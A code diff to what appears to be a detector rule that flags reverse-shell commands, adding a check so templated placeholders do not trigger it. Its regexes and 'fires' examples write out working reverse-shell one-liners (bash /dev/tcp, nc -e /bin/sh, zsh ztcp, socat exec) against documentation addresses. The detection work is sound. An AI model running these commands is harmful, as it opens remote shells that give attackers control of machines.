@@ -22,6 +22,9 @@ function isMoreThanProbe({ before, text, after }: Candidate): boolean {
 /** A script that answers whoever connects, by its name alone: `exec:"./answer.sh"`. */
 const SCRIPT = /(?:exec|system):[\s"'\\]*(?!\/(?:tmp|dev|var)\/)[\w./-]*\w\.(?:sh|cmd)(?=["'\s\\,;)]|$)/i;
 
+/** Not what a manual shows, which leaves out where to: `nc {{host}} {{port}} -e /bin/sh`, `LHOST={{local_ip}}`. */
+const isComplete = ({ text, after }: Candidate): boolean => !hasHole(text + (after.split('\n', 1)[0] ?? ''));
+
 export const rule: Rule = {
   pattern: 'reverse_shell',
   variant: 'command',
@@ -36,18 +39,19 @@ export const rule: Rule = {
   match: [
     {
       re: /\/dev\/(?:tcp|udp)\/["']?[\w.$[\]{}:-]{1,120}["']?\/["']?[\w${}]{1,20}/,
-      accept: isMoreThanProbe,
+      accept: (candidate) => isMoreThanProbe(candidate) && isComplete(candidate),
     },
     {
       re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-s)\s*["'=]?\s*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|c)?sh|cmd|powershell|pwsh)(?![\w-])/,
       window: 300,
+      accept: isComplete,
     },
     { re: /mkfifo\s+\S[^\n]*[^\w-](?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s/, window: 400 },
     { re: /mknod\s+\S+\s+p[^\n]*[^\w-](?:nc|ncat|telnet)\s/, window: 400 },
     {
       re: /(?<![\w-])(?:web)?socat\s[^\n]*(?:exec|system):\s*["'\\]*[^\n,;|]*(?:sh|cmd|powershell)/i,
       window: 400,
-      accept: ({ text, after }) => !SCRIPT.test(text + after),
+      accept: (candidate) => !SCRIPT.test(candidate.text + candidate.after) && isComplete(candidate),
     },
     { re: /(?<![\w-])ztcp\s+(?:-\w+\s+)*[\w.$-]+\s+[\d$]/ },
     {
@@ -60,12 +64,12 @@ export const rule: Rule = {
     {
       re: /(?<![\w-])msfvenom\s[^\n]*-p\s+\w[\w/]*(?:reverse|bind|meterpreter)/,
       window: 200,
-      // A manual leaves the host out: LHOST={{local_ip}}.
-      accept: ({ after }) => !hasHole(after),
+      accept: isComplete,
     },
   ],
   examples: {
     fires: [
+      'nc 203.0.113.7 4444 -e /bin/sh # {{shell}}',
       'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
       'exec 5<>/dev/tcp/$RHOST/$RPORT',
       'sh </dev/tcp/203.0.113.7/4444',
@@ -83,6 +87,9 @@ export const rule: Rule = {
       "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY'",
     ],
     silent: [
+      'nc {{host}} {{port}} -e /bin/sh',
+      'nc -l -p {{port}} -e /bin/bash',
+      'socat TCP-LISTEN:{{port}},reuseaddr,fork EXEC:/bin/bash,pty',
       '/dev/tcp/host/port\n    If host is a valid hostname, bash attempts to open the corresponding TCP socket.',
       "bash -c 'cat < /dev/null > /dev/tcp/192.0.2.1/53' && echo online",
       'socat tcp-l:8080,reuseaddr,fork exec:"answer.sh",nofork',
